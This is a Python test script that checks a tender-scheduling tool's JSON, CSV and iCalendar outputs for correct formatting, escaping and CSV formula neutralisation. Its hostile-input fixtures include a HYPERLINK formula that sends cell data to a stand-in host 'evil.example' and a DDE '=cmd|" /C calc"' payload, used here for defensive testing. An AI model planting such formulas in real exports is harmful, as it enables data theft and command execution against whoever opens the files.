#!/usr/bin/python3
# SPDX-License-Identifier: EUPL-1.2
# SPDX-FileCopyrightText: 2026 The tenderkit authors

"""Reads tender-schedule's JSON, CSV and iCalendar outputs back with real parsers.

    verify_schedule_formats.py TENDER_SCHEDULE SCRATCH_DIR TENDER.toml [CONTRACTS.toml]...
    verify_schedule_formats.py --hostile TENDER_SCHEDULE SCRATCH_DIR BASE_TENDER.toml

Runs tender-schedule (SOURCE_DATE_EPOCH fixed) with --format json, csv and ics on the inputs and
checks, with the JSON report as the reference:

iCalendar, parsed by python3-icalendar (icalendar.Calendar.from_ical): the raw file ends every
line with CRLF and no line is longer than 75 octets, nor splits a UTF-8 character; one VEVENT per
JSON milestone, each all-day (DTSTART and DTEND are dates, DTEND the next day); UIDs unique, equal
to "<milestone id>@<tender id>.tenderkit", and with the date equal to the JSON milestone of that
id; two runs give the same bytes; with a timeline, a re-planned run (--shift) gives the same UIDs;
SUMMARY, DESCRIPTION and CATEGORIES round-trip the names from the CSV exactly (special characters
included), and in the raw text of UID, SUMMARY, DESCRIPTION and X-WR-CALNAME every ',' and ';' is
escaped (python3-icalendar alone accepts them bare); DTSTAMP is SOURCE_DATE_EPOCH.

CSV, parsed by Python's csv module: CRLF after every record (line breaks inside quoted fields
aside), the documented header, one row per JSON milestone in the same order with the same id,
date, owner, kind, contract year, rule and moved-from date; no text cell starts with = + - @ tab or
CR unless it is neutralised with a leading apostrophe (docs/tender-schedule.md), and the number
columns (contract_year, days_moved) hold plain whole numbers, a negative one without apostrophe.
With a timeline, a re-planned run (--shift of the first phase that follows another, by -1m,
against the plan) is checked the same way, with its baseline_date and days_moved columns.

--hostile writes a tender (BASE_TENDER plus a [contract] and a [[phase]] timeline) and a contracts
file into SCRATCH_DIR whose names start with "=HYPERLINK(", "+31", "@foo" and "-" and hold commas,
quotes, semicolons, backslashes, line breaks and long UTF-8 text, runs the checks above on them,
and checks that those exact names come back from the CSV (behind the apostrophe) and the
iCalendar file.

Exits 0 when all is well, 1 on a mismatch (every one is printed), 2 on bad usage, 77 (skipped)
when python3-icalendar is missing (scripts/install-deps.sh --test installs it).
"""

import csv
import datetime
import io
import json
import os
import re
import subprocess
import sys

try:
    import icalendar
except ImportError:
    print("skipped: python3-icalendar is not installed (scripts/install-deps.sh --test)")
    sys.exit(77)

EPOCH = 1672531200  # 2023-01-01T00:00:00Z
CSV_HEADER = ["id", "date", "weekday", "owner", "owner_name", "kind", "kind_name", "description",
              "contract_year", "rule", "moved_from", "reason"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Numbers, written as numbers: a negative days_moved stays "-31", not "'-31".
NUMBER_COLUMNS = ("contract_year", "days_moved")
TIMELINE_OWNER = {"nl": "Planning aanbesteding", "en": "Procurement timeline"}
# Single TEXT values; CATEGORIES is a list, where a comma separates the values.
TEXT_PROPERTIES = ("UID", "SUMMARY", "DESCRIPTION", "X-WR-CALNAME")
MONTHS_NL = ["januari", "februari", "maart", "april", "mei", "juni", "juli", "augustus",
             "september", "oktober", "november", "december"]
MONTHS_EN = ["January", "February", "March", "April", "May", "June", "July", "August",
             "September", "October", "November", "December"]

# Hostile names: formula starts, CSV and iCalendar specials, a line break, long UTF-8 text.
# (No backslash before n, N, ',' or ';': icalendar 4.0.3 unescapes '\\n' before '\\\\'.)
HOSTILE_CONTRACTS = [
    ("formula-2020", '=HYPERLINK("http://evil.example/?q="&A1, "click me")'),
    ("phone-2021", '+31 20 123 4567, "quoted"\nsecond line; with a semicolon'),
    ("at-2022", "@foo SUM(1+1) \u2013 back\\slash, caf\u00e9 \u20ac\U0001F600 " + "\u00e9" * 40),
]
HOSTILE_INTEGRAL = "-2+3 integral contract, \"Jeugd\" \u2014 \u00e9\u00e9n; twee"
HOSTILE_PHASE = '=cmd|" /C calc"!A0, the \u201caward\u201d; \u00e9\u00e9n\ntwo\tafter a tab'


class Checker:
    def __init__(self, label):
        self.label = label
        self.problems = []

    def check(self, condition, message):
        if not condition:
            self.problems.append(message)
        return condition

    def equal(self, actual, expected, what):
        return self.check(actual == expected, f"{what}: expected {expected!r}, found {actual!r}")


def run(program, arguments, destination):
    environment = dict(os.environ, SOURCE_DATE_EPOCH=str(EPOCH), NO_COLOR="1")
    command = [program, *arguments, "-o", destination]
    result = subprocess.run(command, env=environment, capture_output=True, text=True)
    if result.returncode != 0:
        sys.stderr.write(f"{' '.join(command)} exited {result.returncode}:\n{result.stderr}")
        sys.exit(1)
    with open(destination, "rb") as stream:
        return stream.read()


def long_date_nl(iso):
    date = datetime.date.fromisoformat(iso)
    return f"{date.day} {MONTHS_NL[date.month - 1]} {date.year}"


def long_date_en(iso):
    date = datetime.date.fromisoformat(iso)
    return f"{date.day} {MONTHS_EN[date.month - 1]} {date.year}"


def raw_cell(cell):
    """A CSV cell without the apostrophe that neutralises a formula."""
    if len(cell) >= 2 and cell[0] == "'" and cell[1] in "=+-@\t\r":
        return cell[1:]
    return cell


def check_csv(checker, data, report):
    text = data.decode("utf-8")
    # Outside quoted fields, every line break is CRLF.
    quoted = False
    for index, char in enumerate(text):
        if char == '"':
            quoted = not quoted
        elif not quoted and char == "\n" and (index == 0 or text[index - 1] != "\r"):
            checker.check(False, f"csv: a line ends without CR at offset {index}")
            break
        elif not quoted and char == "\r" and text[index + 1:index + 2] != "\n":
            checker.check(False, f"csv: a bare CR at offset {index}")
            break
    checker.check(text.endswith("\r\n"), "csv: the last record does not end with CRLF")

    rows = list(csv.reader(io.StringIO(text, newline="")))
    if not checker.check(bool(rows), "csv: no header row"):
        return {}
    header, rows = rows[0], rows[1:]
    expected_header = list(CSV_HEADER)
    if report["baseline"] is not None:
        expected_header += ["baseline_date", "days_moved"]
    checker.equal(header, expected_header, "csv header")
    milestones = report["milestones"]
    checker.equal(len(rows), len(milestones), "csv: number of rows (JSON milestones)")
    changes = {}
    if report["baseline"] is not None:
        changes = {change["id"]: change for change in report["baseline"]["changes"]}

    by_id = {}
    for number, (row, milestone) in enumerate(zip(rows, milestones), start=2):
        if not checker.check(len(row) == len(header),
                             f"csv row {number}: {len(row)} fields, header has {len(header)}"):
            continue
        cells = dict(zip(header, row))
        where = f"csv row {number} ({milestone['id']})"
        for name, cell in cells.items():
            if name in NUMBER_COLUMNS:
                checker.check(cell == "" or re.fullmatch(r"-?[0-9]+", cell) is not None,
                              f"{where}: {name} {cell!r} is no whole number")
            else:
                checker.check(not cell.startswith(FORMULA_STARTS),
                              f"{where}: {name} {cell!r} starts like a formula, not neutralised")
        checker.equal(cells["id"], milestone["id"], f"{where}: id")
        checker.equal(cells["date"], milestone["date"], f"{where}: date")
        checker.equal(cells["owner"], milestone["owner"], f"{where}: owner")
        checker.equal(cells["kind"], milestone["kind"], f"{where}: kind")
        year = milestone["contract_year"]
        checker.equal(cells["contract_year"], "" if year is None else str(year),
                      f"{where}: contract_year")
        checker.equal(cells["rule"], milestone["rule"], f"{where}: rule")
        checker.equal(cells["moved_from"], milestone["moved_from"] or "", f"{where}: moved_from")
        checker.check(bool(cells["reason"]) == (milestone["moved_from"] is not None),
                      f"{where}: a reason exactly when the milestone moved")
        # The JSON's texts are in the tender's language too.
        checker.equal(raw_cell(cells["description"]), milestone["description"],
                      f"{where}: description")
        if report["baseline"] is not None:
            change = changes.get(milestone["id"])
            old = change["old"] if change else None
            checker.equal(cells["baseline_date"], old or "", f"{where}: baseline_date")
            days = "" if old is None else str(change["days"])
            checker.equal(cells["days_moved"], days, f"{where}: days_moved")
        by_id[cells["id"]] = cells
    return by_id


def physical_lines(checker, data):
    checker.check(data.endswith(b"\r\n"), "ics: the file does not end with CRLF")
    lines = data.split(b"\r\n")[:-1]
    for number, line in enumerate(lines, start=1):
        checker.check(b"\n" not in line and b"\r" not in line,
                      f"ics line {number}: a bare LF or CR (lines must end with CRLF)")
        checker.check(len(line) <= 75, f"ics line {number}: {len(line)} octets, more than 75")
        try:
            line.decode("utf-8")
        except UnicodeDecodeError:
            checker.check(False, f"ics line {number}: folding split a UTF-8 character")
    return lines


def check_text_escapes(checker, lines):
    """RFC 5545 3.3.11 on the raw TEXT values, which python3-icalendar reads leniently: after
    unfolding, ',' and ';' are escaped and a backslash only escapes '\\', ';', ',' or 'n'."""
    unfolded = []
    for line in lines:
        if line.startswith((b" ", b"\t")) and unfolded:
            unfolded[-1] += line[1:]
        else:
            unfolded.append(line)
    for line in unfolded:
        text = line.decode("utf-8", errors="replace")
        name, _, value = text.partition(":")
        if name not in TEXT_PROPERTIES:
            continue
        index = 0
        while index < len(value):
            char = value[index]
            if char == "\\":
                checker.check(value[index + 1:index + 2] in ("\\", ";", ",", "n", "N"),
                              f"ics {name}: a backslash escapes nothing in {value!r}")
                index += 2
                continue
            checker.check(char not in ",;", f"ics {name}: an unescaped {char!r} in {value!r}")
            index += 1


def expected_description(cells, language):
    owner_name = raw_cell(cells["owner_name"])
    text = f"{raw_cell(cells['kind_name'])}: {owner_name}"
    if cells["contract_year"]:
        label = "contractjaar" if language == "nl" else "contract year"
        text += f"\n{label} {cells['contract_year']}"
    if cells["moved_from"]:
        reason = raw_cell(cells["reason"])
        if language == "nl":
            text += f"\nverschoven van {long_date_nl(cells['moved_from'])} ({reason})"
        else:
            text += f"\nmoved from {long_date_en(cells['moved_from'])} ({reason})"
    return text


def check_ics(checker, data, report, csv_rows):
    check_text_escapes(checker, physical_lines(checker, data))
    try:
        calendar = icalendar.Calendar.from_ical(data)
    except Exception as error:  # the parser's own errors are of many kinds
        checker.check(False, f"ics: icalendar cannot parse the file: {error}")
        return {}
    language = report["tender"]["language"]
    tender_id = report["tender"]["id"]
    checker.equal(str(calendar.get("VERSION")), "2.0", "ics: VERSION")
    checker.equal(str(calendar.get("X-WR-CALNAME")), report["tender"]["title"],
                  "ics: X-WR-CALNAME")
    events = calendar.walk("VEVENT")
    milestones = {milestone["id"]: milestone for milestone in report["milestones"]}
    checker.equal(len(events), len(report["milestones"]), "ics: number of VEVENTs (milestones)")
    suffix = f"@{tender_id}.tenderkit"
    uids = {}
    stamp = datetime.datetime.fromtimestamp(EPOCH, tz=datetime.timezone.utc)
    for event in events:
        uid = str(event.get("UID"))
        checker.check(uid not in uids, f"ics: UID {uid} occurs twice")
        start = event.decoded("DTSTART")
        end = event.decoded("DTEND")
        uids[uid] = start
        where = f"ics event {uid}"
        all_day = isinstance(start, datetime.date) and not isinstance(start, datetime.datetime)
        checker.check(all_day, f"{where}: DTSTART {start!r} is not a date (all-day event)")
        checker.check(isinstance(end, datetime.date) and not isinstance(end, datetime.datetime)
                      and end == start + datetime.timedelta(days=1),
                      f"{where}: DTEND {end!r} is not the day after DTSTART")
        checker.equal(event.decoded("DTSTAMP"), stamp, f"{where}: DTSTAMP")
        if not checker.check(uid.endswith(suffix), f"{where}: UID does not end with {suffix}"):
            continue
        milestone_id = uid[:-len(suffix)]
        milestone = milestones.get(milestone_id)
        if not checker.check(milestone is not None, f"{where}: no JSON milestone {milestone_id}"):
            continue
        checker.equal(start.isoformat(), milestone["date"], f"{where}: DTSTART (JSON date)")
        cells = csv_rows.get(milestone_id)
        if cells is None:
            continue
        summary = f"{raw_cell(cells['owner_name'])}: {raw_cell(cells['description'])}"
        checker.equal(str(event.get("SUMMARY")), summary, f"{where}: SUMMARY")
        checker.equal(str(event.get("DESCRIPTION")), expected_description(cells, language),
                      f"{where}: DESCRIPTION")
        categories = [str(category) for category in event.get("CATEGORIES").cats]
        checker.equal(categories, [raw_cell(cells["kind_name"])], f"{where}: CATEGORIES")
    return uids


def check_json(checker, data):
    try:
        report = json.loads(data.decode("utf-8"))
    except ValueError as error:
        checker.check(False, f"json: not valid JSON: {error}")
        sys.exit(1)
    checker.equal(report.get("schema"), 1, "json: schema")
    checker.equal(report.get("tool"), "tender-schedule", "json: tool")
    checker.equal(report["summary"]["milestones"], len(report["milestones"]),
                  "json: summary.milestones")
    ids = [milestone["id"] for milestone in report["milestones"]]
    checker.equal(len(set(ids)), len(ids), "json: milestone ids unique")
    return report


def write_hostile_inputs(scratch, base_tender):
    def toml_string(text):
        return json.dumps(text, ensure_ascii=False)  # a JSON string is a TOML basic string

    with open(base_tender, encoding="utf-8") as stream:
        tender = stream.read()
    provider = toml_string('@provider, "quoted"')
    announcement = toml_string('+announcement, published; "today"')
    tender += (
        "\n[contract]\n"
        f"name = {toml_string(HOSTILE_INTEGRAL)}\n"
        f"provider = {provider}\n"
        "start = 2023-01-01\nterm = \"3y\"\nextension = { options = 1, decide_before = \"6m\" }\n"
        "evaluations = [1]\nnotice_period = \"3m\"\n"
        "reporting = { cadence = \"quarterly\", due_after_days = 30 }\n"
        "\n[[phase]]\nid = \"announcement\"\n"
        f"name = {announcement}\n"
        "start = 2022-03-01\n"
        "\n[[phase]]\nid = \"award\"\n"
        f"name = {toml_string(HOSTILE_PHASE)}\n"
        "after = \"announcement\"\nlag = \"8w\"\nstart_rule = \"next-working-day\"\n"
    )
    contracts = "title = \"Hostile contracts\"\n"
    for number, (contract_id, name) in enumerate(HOSTILE_CONTRACTS):
        contracts += (
            f"\n[[contract]]\nid = \"{contract_id}\"\nname = {toml_string(name)}\n"
            f"provider = {toml_string('=1+1, ' + contract_id)}\n"
            f"start = {2020 + number}-01-01\nterm = \"2y\"\n"
            "extension = { options = 0 }\n"
            "reporting = { cadence = \"quarterly\", due_after_days = 30 }\n"
            "budget_agreement = \"10-01\"\n"
        )
    tender_file = os.path.join(scratch, "hostile-tender.toml")
    contracts_file = os.path.join(scratch, "hostile-contracts.toml")
    with open(tender_file, "w", encoding="utf-8") as stream:
        stream.write(tender)
    with open(contracts_file, "w", encoding="utf-8") as stream:
        stream.write(contracts)
    return [tender_file, contracts_file]


def check_hostile(checker, report, csv_rows, ics_data):
    calendar = icalendar.Calendar.from_ical(ics_data)
    summaries = {str(event.get("UID")).split("@")[0]: str(event.get("SUMMARY"))
                 for event in calendar.walk("VEVENT")}
    language = report["tender"]["language"]
    starts = "Contract starts" if language == "en" else "Ingangsdatum overeenkomst"
    names = dict(HOSTILE_CONTRACTS)
    names[report["tender"]["id"]] = HOSTILE_INTEGRAL
    for contract_id, name in names.items():
        cells = csv_rows.get(f"{contract_id}/start")
        if not checker.check(cells is not None, f"hostile: no milestone {contract_id}/start"):
            continue
        expected_cell = "'" + name if name.startswith(FORMULA_STARTS) else name
        checker.equal(cells["owner_name"], expected_cell, f"hostile: csv owner_name of {contract_id}")
        checker.equal(summaries.get(f"{contract_id}/start"), f"{name}: {starts}",
                      f"hostile: ics SUMMARY of {contract_id}/start")
    for json_contract in report["contracts"]:
        checker.equal(json_contract["name"], names.get(json_contract["id"]),
                      f"hostile: json name of {json_contract['id']}")
    award = csv_rows.get("timeline/award")
    if checker.check(award is not None, "hostile: no milestone timeline/award"):
        checker.equal(award["description"], "'" + HOSTILE_PHASE, "hostile: csv description of "
                      "timeline/award")
        checker.equal(summaries.get("timeline/award"),
                      f"{TIMELINE_OWNER[language]}: {HOSTILE_PHASE}",
                      "hostile: ics SUMMARY of timeline/award")


def main(argv):
    hostile = bool(argv) and argv[0] == "--hostile"
    if hostile:
        argv = argv[1:]
    if len(argv) < 3 or (hostile and len(argv) != 3):
        print(__doc__, file=sys.stderr)
        return 2
    program, scratch, inputs = argv[0], argv[1], argv[2:]
    os.makedirs(scratch, exist_ok=True)
    if hostile:
        inputs = write_hostile_inputs(scratch, inputs[0])
    checker = Checker(" ".join(inputs))

    json_data = run(program, [*inputs, "--format", "json"], os.path.join(scratch, "schedule.json"))
    report = check_json(checker, json_data)
    csv_data = run(program, [*inputs, "--format", "csv"], os.path.join(scratch, "schedule.csv"))
    csv_rows = check_csv(checker, csv_data, report)
    ics_path = os.path.join(scratch, "schedule.ics")
    ics_data = run(program, [*inputs, "--format", "ics"], ics_path)
    uids = check_ics(checker, ics_data, report, csv_rows)

    again = run(program, [*inputs, "--format", "ics"], os.path.join(scratch, "again.ics"))
    checker.check(again == ics_data, "ics: two runs on the same inputs differ")

    # Re-planned: the same UIDs (calendars update events instead of adding new ones); the shifted
    # phase and what follows it on other dates; and the CSV of a re-plan against the plan.
    shifted = [phase for phase in report["timeline"] if phase["after"]]
    if shifted:
        phase = shifted[0]["id"]
        plan = os.path.join(scratch, "schedule.json")
        replanned_arguments = [*inputs, "--shift", f"{phase}=-1m", "--baseline", plan]
        replanned_json = run(program, [*replanned_arguments, "--format", "json"],
                             os.path.join(scratch, "replanned.json"))
        replanned_report = check_json(checker, replanned_json)
        replanned_csv = run(program, [*replanned_arguments, "--format", "csv"],
                            os.path.join(scratch, "replanned.csv"))
        replanned_rows = check_csv(checker, replanned_csv, replanned_report)
        replanned_ics = run(program, [*replanned_arguments, "--format", "ics"],
                            os.path.join(scratch, "replanned.ics"))
        replanned_uids = check_ics(checker, replanned_ics, replanned_report, replanned_rows)
        # A contract that starts with a phase moves with it, and its periods (reports, intake
        # moments) are those of its new term; everything else keeps exactly its UIDs.
        moving = [contract["id"] + "/" for contract in report["contracts"]
                  if contract["start_phase"]]

        def fixed(all_uids):
            return sorted(uid for uid in all_uids if not uid.startswith(tuple(moving)))

        checker.equal(fixed(replanned_uids), fixed(uids), "ics: UIDs after --shift")
        for prefix in moving:
            for kind in ("start", "end-of-term"):
                checker.check(any(uid.startswith(prefix + kind + "@") for uid in replanned_uids),
                              f"ics: no {prefix}{kind} after --shift")
        moved = [uid for uid in uids if uid in replanned_uids and uids[uid] != replanned_uids[uid]]
        own = (f"timeline/{phase}@", f"timeline/{phase}/")
        checker.check(any(uid.startswith(own) for uid in moved),
                      f"ics: --shift {phase}=-1m moved no event of {phase}")

    if hostile:
        check_hostile(checker, report, csv_rows, ics_data)

    for problem in checker.problems[:200]:
        print(problem)
    if checker.problems:
        print(f"{len(checker.problems)} problems in the outputs of {checker.label}")
        return 1
    print(f"json, csv and ics agree: {len(report['milestones'])} milestones, {len(uids)} events "
          f"({checker.label})")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
